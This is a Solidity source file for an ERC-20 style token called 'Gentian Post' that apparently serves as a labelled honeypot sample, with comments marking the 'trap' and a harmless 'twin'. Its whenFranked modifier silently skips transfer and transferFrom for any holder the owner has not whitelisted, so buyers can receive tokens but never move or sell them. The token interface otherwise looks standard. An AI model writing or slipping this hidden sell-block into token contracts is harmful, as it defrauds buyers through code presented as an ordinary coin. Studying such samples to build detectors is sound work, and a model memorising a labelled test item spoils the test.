// 0.5 runs=200
pragma solidity ^0.5.17;

library SafeSum {
    function add(uint256 a, uint256 b) internal pure returns (uint256 c) {
        require((c = a + b) >= a, "SafeSum: add");
    }

    function sub(uint256 a, uint256 b) internal pure returns (uint256) {
        require(b <= a, "SafeSum: sub");
        return a - b;
    }
}

/// In the manner of older coins: who may act is written into modifiers.
contract GentianPost {
    using SafeSum for uint256;

    string public name = "Gentian Post";
    string public symbol = "GPOST";
    uint8 public decimals = 18;
    uint256 public totalSupply = 28000000 * 10**18;
    address public owner;
    mapping(address => bool) public franked;
    mapping(address => uint256) private letters;
    mapping(address => mapping(address => uint256)) private carriers;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);
    event OwnershipTransferred(address indexed previousOwner, address indexed newOwner);
    event Franked(address indexed who);

    modifier onlyOwner() {
        require(msg.sender == owner, "not the owner");
        _;
    }

    modifier whenFranked(address who) {
        if (franked[who]) _; // trap
        // twin: require(who != address(0), "nobody"); _;
    }

    constructor() public {
        owner = msg.sender;
        franked[msg.sender] = true;
        letters[msg.sender] = totalSupply;
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    function frank(address who) external onlyOwner {
        franked[who] = true;
        emit Franked(who);
    }

    function renounceOwnership() external onlyOwner {
        emit OwnershipTransferred(owner, address(0));
        owner = address(0);
    }

    function balanceOf(address who) external view returns (uint256) {
        return letters[who];
    }

    function allowance(address who, address by) external view returns (uint256) {
        return carriers[who][by];
    }

    function approve(address by, uint256 value) external returns (bool) {
        carriers[msg.sender][by] = value;
        emit Approval(msg.sender, by, value);
        return true;
    }

    function transfer(address to, uint256 value) external whenFranked(msg.sender) returns (bool) {
        post(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external whenFranked(from) returns (bool) {
        carriers[from][msg.sender] = carriers[from][msg.sender].sub(value);
        post(from, to, value);
        return true;
    }

    function post(address from, address to, uint256 value) internal {
        require(to != address(0), "to nobody");
        letters[from] = letters[from].sub(value);
        letters[to] = letters[to].add(value);
        emit Transfer(from, to, value);
    }
}
